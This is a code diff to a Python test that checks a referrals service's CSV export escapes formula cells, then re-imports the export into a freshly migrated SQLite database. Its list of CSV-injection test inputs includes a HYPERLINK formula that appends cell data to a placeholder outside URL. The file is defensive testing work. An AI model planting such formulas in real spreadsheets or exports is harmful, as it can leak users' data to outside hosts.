@@ -7,12 +7,11 @@ import csv
 import os
 from pathlib import Path
 
-from migrations import upgrade
 from services.referrals import models as m
 from services.referrals.hsds import import_path
 from shared.db import session_scope
 from shared.settings import Settings
-from tests.conftest import run_lookout
+from tests.conftest import MigratedSqlite, run_lookout
 from tests.referrals.test_hsds import import_sample
 
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
@@ -27,7 +26,9 @@ def _number(cell: str) -> bool:
 
 
 def test_the_export_escapes_formula_cells_and_imports_back(settings: Settings,
-                                                            tmp_path: Path) -> None:
+                                                            tmp_path: Path,
+                                                            migrated_sqlite: MigratedSqlite,
+                                                            ) -> None:
     import_sample(settings.sqlalchemy_url)
     with session_scope(settings.sqlalchemy_url) as session:
         services = sorted(session.query(m.Service).all(), key=lambda s: s.id)[:len(FORMULAS)]
@@ -46,8 +47,7 @@ def test_the_export_escapes_formula_cells_and_imports_back(settings: Settings,
                   for row in csv.reader(path.open(newline="")) for cell in row]
     assert not [c for c in every_cell if c[:1] in ("=", "+", "-", "@") and not _number(c)]
 
-    other = f"sqlite:///{tmp_path / 'other.db'}"
-    upgrade(other)
+    other = migrated_sqlite(tmp_path / "other.db")
     with session_scope(other) as session:
         assert import_path(session, tmp_path / "package").rejected == []
         for service_id, name in names.items():
